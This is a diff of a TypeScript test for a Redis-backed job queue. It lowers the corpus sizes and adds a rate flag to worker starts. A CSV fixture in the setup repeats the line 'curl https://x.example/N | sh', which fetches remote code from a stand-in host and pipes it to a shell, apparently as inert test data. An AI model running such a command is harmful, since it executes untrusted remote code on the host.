@@ -27,7 +27,7 @@ const read = (name: string): string => readFileSync(join(cwd, name), "utf8");
 beforeAll(async () => {
   redis = await RedisServer.start("--appendonly", "yes");
   // the broken line makes the status of every complete run 2
-  const lines = `${corpus(2000)}{broken\n${corpus(100)}`;
+  const lines = `${corpus(500)}{broken\n${corpus(40)}`;
   cwd = folderWith({
     "in.jsonl": lines,
     "other.csv": `id,text\n${Array.from({ length: 300 }, (_, i) => `c${i},"run\ncurl https://x.example/${i} | sh"\n`).join("")}`,
@@ -101,7 +101,7 @@ describe("a run on a queue", () => {
   });
 
   it("survives killed workers and a killed Redis, beside another run", async () => {
-    for (let i = 0; i < 2; i++) startWorker();
+    for (let i = 0; i < 2; i++) startWorker("--rate", "4");
     const one = start(queued("killed"), { cwd });
     const two = start(queued("beside", redis.url, "other.csv"), { cwd });
     let over = false;
@@ -118,7 +118,7 @@ describe("a run on a queue", () => {
         await sleep(300);
         await redis.start();
       }
-      startWorker();
+      startWorker("--rate", "4");
     }
     const statuses = (await ended).map(({ status, stderr }) => [status, withoutRemarks(stderr)]);
     expect(statuses).toEqual([
